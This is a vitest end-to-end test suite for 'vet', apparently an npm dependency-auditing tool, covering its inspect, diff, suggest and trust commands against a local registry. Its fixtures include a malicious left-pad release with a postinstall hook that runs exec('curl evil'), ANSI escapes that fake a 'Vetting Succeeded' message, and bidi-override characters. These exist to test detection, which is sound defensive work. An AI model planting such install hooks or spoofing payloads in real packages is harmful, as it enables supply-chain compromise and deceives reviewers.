/**
 * The auditor workflow end to end: the built `vet` against a real npm registry on 127.0.0.1
 * that serves real packuments and tarballs. The registry URL reaches vet only through the
 * project's .npmrc, as it would for a user.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { packageLock, runVet, tempProject, type TempProject } from './helpers/project.js';
import { startRegistryServer, type Published, type RegistryServer } from '@vet/test-support/registry-server';

let registry: RegistryServer;
const pub: Record<string, Published> = {};

beforeAll(async () => {
  registry = await startRegistryServer();
  pub['1.3.0'] = registry.publish({
    name: 'left-pad',
    version: '1.3.0',
    npmUser: 'alice',
    time: '2024-01-10T10:00:00.000Z',
    files: { 'index.js': 'module.exports = function pad(s, n) {\n  return String(s).padStart(n);\n};\n' },
  });
  pub['1.3.1'] = registry.publish({
    name: 'left-pad',
    version: '1.3.1',
    npmUser: 'mallory',
    time: '2024-03-01T10:00:00.000Z',
    scripts: { postinstall: 'node steal.js' },
    files: {
      'index.js': 'module.exports = function pad(s, n, c = " ") {\n  return String(s).padStart(n, c);\n};\n',
      'steal.js': 'require("child_process").exec("curl evil")\n',
      'hide.js': '\u001b[1A\u001b[2KVetting Succeeded\nif (x !== "user\u202e \u2066// admin\u2069") {}\n',
    },
  });
  pub['1.4.0'] = registry.publish({
    name: 'left-pad',
    version: '1.4.0',
    npmUser: 'alice',
    time: '2024-05-01T10:00:00.000Z',
    files: { 'index.js': 'module.exports = (s, n) => String(s).padStart(n);\n' },
  });
  pub['right-pad'] = registry.publish({
    name: 'right-pad',
    version: '2.0.0',
    npmUser: 'alice',
    time: '2024-02-02T10:00:00.000Z',
    files: { 'index.js': 'r\n' },
  });
  pub['up-pad'] = registry.publish({
    name: 'up-pad',
    version: '1.0.0',
    npmUser: 'bob',
    time: '2024-02-03T10:00:00.000Z',
    files: { 'index.js': 'u\n' },
  });
});
afterAll(() => registry.close());

let project: TempProject | undefined;
afterEach(() => project?.cleanup());

function setup(version: string, integrity = pub[version]!.integrity): TempProject {
  project = tempProject({
    'package.json': '{"name":"demo","version":"1.0.0"}\n',
    '.npmrc': `registry=${registry.url}\n`,
    'package-lock.json': packageLock({
      deps: { 'left-pad': '^1.3.0' },
      packages: { 'node_modules/left-pad': { version, integrity } },
    }),
  });
  return project;
}

async function initAt(p: TempProject, base: string, target: string, integrity?: string): Promise<void> {
  p.write(
    'package-lock.json',
    packageLock({
      deps: { 'left-pad': '^1.3.0' },
      packages: { 'node_modules/left-pad': { version: base, integrity: pub[base]!.integrity } },
    }),
  );
  expect((await runVet(['init'], { cwd: p.dir })).code).toBe(0);
  p.write(
    'package-lock.json',
    packageLock({
      deps: { 'left-pad': '^1.3.0' },
      packages: { 'node_modules/left-pad': { version: target, integrity: integrity ?? pub[target]!.integrity } },
    }),
  );
}

describe('inspect and diff', () => {
  it('inspect fetches, verifies and unpacks the release, printing its path', async () => {
    const p = setup('1.3.0');
    await runVet(['init'], { cwd: p.dir });
    const r = await runVet(['inspect', 'left-pad', '1.3.0'], { cwd: p.dir });
    expect(r.stderr).toContain('When you have audited it: vet certify left-pad 1.3.0\n');
    expect(r.code).toBe(0);
    const dir = r.stdout.trim();
    expect(readdirSync(dir).sort()).toEqual(['index.js', 'package.json']);
    expect(dir.startsWith(path.join(p.dir, '.cache', 'vet'))).toBe(true);
  });

  it('diff shows the patch and the risk signals of the new release', async () => {
    const p = setup('1.3.0');
    await initAt(p, '1.3.0', '1.3.1');
    const r = await runVet(['diff', 'left-pad', '1.3.0', '1.3.1'], { cwd: p.dir });
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('+module.exports = function pad(s, n, c = " ") {');
    expect(r.stdout).toContain('+require("child_process").exec("curl evil")');
    expect(r.stderr).toMatch(/postinstall/);
    expect(r.stderr).toMatch(/mallory/);
    expect(r.stderr).toContain('4 files changed');
    // A file's bytes cannot drive the terminal: ANSI and bidi controls are shown as escapes.
    expect(r.stdout).toContain('+\\x1b[1A\\x1b[2KVetting Succeeded');
    expect(r.stdout).toContain('\\u{202e}');
    expect(r.stdout).not.toMatch(/[\u001b\u202e\u2066]/u);
  });

  it('diff --stat prints a diffstat', async () => {
    const p = setup('1.3.0');
    await initAt(p, '1.3.0', '1.3.1');
    const r = await runVet(['diff', 'left-pad', '1.3.0', '1.3.1', '--stat'], { cwd: p.dir });
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/ steal\.js \| 1 \+\n/);
    expect(r.stdout).toMatch(/4 files changed, \d+ insertions\(\+\), \d+ deletions\(-\)/);
  });

  it('a tarball that does not match the lockfile integrity is refused as a security error and not unpacked', async () => {
    const p = setup('1.3.0', pub['1.3.1']!.integrity);
    await runVet(['init'], { cwd: p.dir });
    const r = await runVet(['inspect', 'left-pad', '1.3.0'], { cwd: p.dir });
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/error \(security\).*integrity/i);
    expect(r.stdout).toBe('');
    const cache = path.join(p.dir, '.cache', 'vet');
    const found = existsSync(cache) ? readdirSync(cache, { recursive: true }).map(String) : [];
    expect(found.some((f) => f.endsWith('index.js'))).toBe(false);
  });
});

describe('suggest and the check suggestion block', () => {
  it('check (unlocked) recommends the delta from the vetted version; --locked does not fetch', async () => {
    const p = setup('1.3.0');
    await initAt(p, '1.3.0', '1.4.0');
    const r = await runVet(['check'], { cwd: p.dir });
    expect(r.code).toBe(1);
    expect(r.stdout).toContain('recommended audits for safe-to-deploy:');
    expect(r.stdout).toMatch(
      /vet diff left-pad 1\.3\.0 1\.4\.0 +alice +demo +2 files changed, 2 insertions\(\+\), 4 deletions\(-\)/,
    );
    expect(r.stdout).toContain('estimated audit backlog: 6 lines');
    const before = registry.requests.length;
    const locked = await runVet(['check', '--locked'], { cwd: p.dir });
    expect(locked.code).toBe(1);
    expect(locked.stdout).not.toContain('recommended audits');
    expect(registry.requests.length).toBe(before);
  });

  it('a failing unlocked check prints the risk signals after its suggestions, as suggest does', async () => {
    const p = setup('1.3.0');
    await initAt(p, '1.3.0', '1.3.1');
    const r = await runVet(['check'], { cwd: p.dir });
    expect(r.code).toBe(1);
    const block = r.stdout.slice(r.stdout.indexOf('estimated audit backlog'));
    expect(block).toMatch(/\nRisk signals:\n {2}left-pad:1\.3\.1: new install script: postinstall: /);
    expect(block).toContain('  left-pad:1.3.1: publisher changed: alice → mallory\n');
    const suggest = await runVet(['suggest'], { cwd: p.dir });
    // suggest drops the suggestable exemption of 1.3.0 too: a full audit of 1.3.1, same signals block.
    expect(suggest.stdout).toMatch(/\nRisk signals:\n {2}left-pad:1\.3\.1: (new )?install script: postinstall: /);
  });

  it('suggest ignores suggestable exemptions and ranks by diff size', async () => {
    const p = setup('1.4.0');
    await runVet(['init'], { cwd: p.dir });
    const r = await runVet(['suggest'], { cwd: p.dir });
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/vet inspect left-pad 1\.4\.0/);
    expect(r.stdout).toMatch(/estimated audit backlog: \d+ lines/);
    // It says which suggestions are there only because of an exemption (issue 10).
    expect(r.stdout).toContain('\nExempted today (auditing these removes their exemption):\n  left-pad:1.4.0\n');
    const json = await runVet(['suggest', '--output-format', 'json'], { cwd: p.dir });
    const body = JSON.parse(json.stdout) as { suggestions: { name: string; exempted: boolean }[] };
    expect(body.suggestions.map((s) => [s.name, s.exempted])).toEqual([['left-pad', true]]);
  });
});

describe('suggest --base', () => {
  const lockOf = (pkgs: Record<string, string>) =>
    packageLock({
      deps: Object.fromEntries(Object.keys(pkgs).map((n) => [n, '*'])),
      packages: Object.fromEntries(
        Object.entries(pkgs).map(([n, v]) => [
          `node_modules/${n}`,
          { version: v, integrity: pub[n === 'left-pad' ? v : n]!.integrity },
        ]),
      ),
    });
  const git = (p: TempProject, ...args: string[]) =>
    execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.test', ...args], {
      cwd: p.dir,
      env: { PATH: process.env['PATH'] ?? '', GIT_CONFIG_NOSYSTEM: '1', HOME: p.dir },
    });

  /** Commit 1: left-pad 1.3.0 and up-pad 1.0.0 (exempted). Commit 2: left-pad 1.4.0, right-pad 2.0.0 added. */
  async function twoCommits(): Promise<TempProject> {
    const p = setup('1.3.0');
    p.write('package-lock.json', lockOf({ 'left-pad': '1.3.0', 'up-pad': '1.0.0' }));
    p.write('.gitignore', '.home\n.cache\n');
    expect((await runVet(['init'], { cwd: p.dir })).code).toBe(0);
    git(p, 'init', '-q', '-b', 'main');
    git(p, 'add', '-A');
    git(p, 'commit', '-q', '-m', 'base');
    p.write('package-lock.json', lockOf({ 'left-pad': '1.4.0', 'up-pad': '1.0.0', 'right-pad': '2.0.0' }));
    git(p, 'commit', '-q', '-am', 'renovate: left-pad 1.4.0, right-pad 2.0.0');
    return p;
  }

  it('suggests audits only for the versions the change introduced', async () => {
    const p = await twoCommits();
    const all = await runVet(['suggest'], { cwd: p.dir });
    expect(all.code).toBe(0);
    expect(all.stdout).toContain('vet inspect up-pad 1.0.0');
    const r = await runVet(['suggest', '--base', 'main~1'], { cwd: p.dir });
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(
      /^Suggestions for what changed since main~1 \(1 unvetted package version\(s\) the base already had are not listed\):\n\n/,
    );
    expect(r.stdout).toMatch(/vet (diff left-pad 1\.3\.0 1\.4\.0|inspect left-pad 1\.4\.0)/);
    expect(r.stdout).toContain('vet inspect right-pad 2.0.0');
    expect(r.stdout).not.toContain('up-pad');
    const json = await runVet(['suggest', '--base', 'main~1', '--output-format', 'json'], { cwd: p.dir });
    const body = JSON.parse(json.stdout) as { suggestions: { name: string }[]; base: string; unvetted_in_base: number };
    expect(body.suggestions.map((s) => s.name).sort()).toEqual(['left-pad', 'right-pad']);
    expect([body.base, body.unvetted_in_base]).toEqual(['main~1', 1]);
  });

  it('--base-lockfile, and nothing to suggest when the change adds nothing unvetted', async () => {
    const p = await twoCommits();
    p.write('base.json', p.read('package-lock.json'));
    const r = await runVet(['suggest', '--base-lockfile', 'base.json'], { cwd: p.dir });
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(
      'Nothing to suggest: the change since base.json introduces no unvetted package version (3 the base already had are not listed).\n',
    );
  });
});

describe('trust', () => {
  it('trusting the publisher vets the versions they published, also under --locked', async () => {
    const p = setup('1.3.0');
    await initAt(p, '1.3.0', '1.4.0');
    const t = await runVet(['trust', 'left-pad', 'alice', '--current-time', '2024-06-01T00:00:00Z'], { cwd: p.dir });
    expect(t.stderr).toBe('Trusted alice for left-pad (safe-to-deploy) from 2024-01-10 until 2025-06-01.\n');
    expect(t.code).toBe(0);
    expect(p.read('supply-chain/audits.toml')).toContain(
      '[[trusted.left-pad]]\ncriteria = "safe-to-deploy"\nuser-login = "alice"\nstart = "2024-01-10"\nend = "2025-06-01"\n',
    );
    expect(p.read('supply-chain/imports.lock')).toContain(
      '[[publisher.left-pad]]\nversion = "1.4.0"\nwhen = "2024-05-01"\nuser-login = "alice"\n',
    );
    const check = await runVet(['check', '--locked', '--current-time', '2024-06-01T00:00:00Z'], { cwd: p.dir });
    expect(check.stdout).toContain('Vetting Succeeded (1 fully audited)');
    expect(check.code).toBe(0);
  });

  it('a version by another publisher is not covered', async () => {
    const p = setup('1.3.0');
    await initAt(p, '1.3.0', '1.3.1');
    await runVet(['trust', 'left-pad', 'alice', '--current-time', '2024-06-01T00:00:00Z'], { cwd: p.dir });
    const check = await runVet(['check', '--locked', '--current-time', '2024-06-01T00:00:00Z'], { cwd: p.dir });
    expect(check.code).toBe(1);
    expect(check.stdout).toContain('left-pad:1.3.1 missing ["safe-to-deploy"]');
  });
});

describe('trust --all and widening', () => {
  const threePads = (leftPad: string) =>
    packageLock({
      deps: { 'left-pad': '^1.3.0', 'right-pad': '^2.0.0', 'up-pad': '^1.0.0' },
      packages: {
        'node_modules/left-pad': { version: leftPad, integrity: pub[leftPad]!.integrity },
        'node_modules/right-pad': { version: '2.0.0', integrity: pub['right-pad']!.integrity },
        'node_modules/up-pad': { version: '1.0.0', integrity: pub['up-pad']!.integrity },
      },
    });
  const at = ['--current-time', '2024-06-01T00:00:00Z'];

  it('trusts every failing or exempted package published only by that user, and nothing else', async () => {
    const p = (project = tempProject({
      'package.json': '{"name":"demo","version":"1.0.0"}\n',
      '.npmrc': `registry=${registry.url}\n`,
      'package-lock.json': threePads('1.4.0'),
    }));
    expect((await runVet(['init', ...at], { cwd: p.dir })).code).toBe(0); // all three exempted
    const t = await runVet(['trust', '--all', 'alice', ...at], { cwd: p.dir });
    expect(t.code).toBe(0);
    expect(t.stderr).toBe(
      'Trusted alice for left-pad (safe-to-deploy) from 2024-01-10 until 2025-06-01.\nTrusted alice for right-pad (safe-to-deploy) from 2024-02-02 until 2025-06-01.\n',
    );
    const audits = p.read('supply-chain/audits.toml');
    expect(audits).toContain('[[trusted.left-pad]]');
    expect(audits).toContain('[[trusted.right-pad]]');
    expect(audits).not.toContain('up-pad');
    // With the exemptions pruned, alice's packages stay vetted by trust alone; bob's stays exempted.
    expect((await runVet(['prune', ...at], { cwd: p.dir })).code).toBe(0);
    const config = p.read('supply-chain/config.toml');
    expect(config).toContain('[[exemptions.up-pad]]');
    expect(config).not.toContain('[[exemptions.left-pad]]');
    const check = await runVet(['check', '--locked', ...at], { cwd: p.dir });
    expect(check.stdout).toContain('Vetting Succeeded (2 fully audited, 1 exempted)');
  });

  it('a package with versions by several publishers needs --allow-multiple-publishers', async () => {
    const lock = packageLock({
      deps: { 'left-pad': '^1.3.0', 'lp-old': 'npm:left-pad@1.3.1' },
      packages: {
        'node_modules/left-pad': { version: '1.4.0', integrity: pub['1.4.0']!.integrity },
        'node_modules/lp-old': { name: 'left-pad', version: '1.3.1', integrity: pub['1.3.1']!.integrity },
      },
    });
    const p = (project = tempProject({
      'package.json': '{"name":"demo","version":"1.0.0"}\n',
      '.npmrc': `registry=${registry.url}\n`,
      'package-lock.json': lock,
    }));
    await runVet(['init', ...at], { cwd: p.dir });
    const none = await runVet(['trust', '--all', 'alice', ...at], { cwd: p.dir });
    expect([none.code, none.stderr]).toEqual([
      0,
      'No failing or exempted package is published only by alice; nothing to trust.\n',
    ]);
    const some = await runVet(['trust', '--all', 'alice', '--allow-multiple-publishers', ...at], { cwd: p.dir });
    expect(some.stderr).toContain('Trusted alice for left-pad');
    // Without a publisher argument there are two candidates, so vet asks which.
    const which = await runVet(['trust', 'left-pad', ...at], { cwd: p.dir });
    expect(which.code).toBe(2);
    expect(which.stderr).toMatch(
      /name the publisher to trust for left-pad: the versions in use were published by (alice, mallory|mallory, alice)/,
    );
  });

  it('without a publisher, the one who published the versions in use; a second trust widens instead of duplicating', async () => {
    const p = setup('1.4.0');
    await runVet(['init', ...at], { cwd: p.dir });
    const first = await runVet(['trust', 'left-pad', '--start-date', '2024-03-01', '--end-date', '2024-12-01', ...at], {
      cwd: p.dir,
    });
    expect(first.stderr).toBe('Trusted alice for left-pad (safe-to-deploy) from 2024-03-01 until 2024-12-01.\n');
    const second = await runVet(['trust', 'left-pad', 'alice', ...at], { cwd: p.dir });
    expect(second.stderr).toBe(
      'Widened trust in alice for left-pad (safe-to-deploy) from 2024-01-10 until 2025-06-01.\n',
    );
    const audits = p.read('supply-chain/audits.toml');
    expect(audits.match(/\[\[trusted\.left-pad\]\]/g)).toHaveLength(1);
    expect(audits).toContain('start = "2024-01-10"\nend = "2025-06-01"\n');
    const third = await runVet(['trust', 'left-pad', 'alice', '--notes', 'again', ...at], { cwd: p.dir });
    expect(third.code).toBe(0);
    expect(p.read('supply-chain/audits.toml').match(/\[\[trusted\.left-pad\]\]/g)).toHaveLength(2);
  });
});
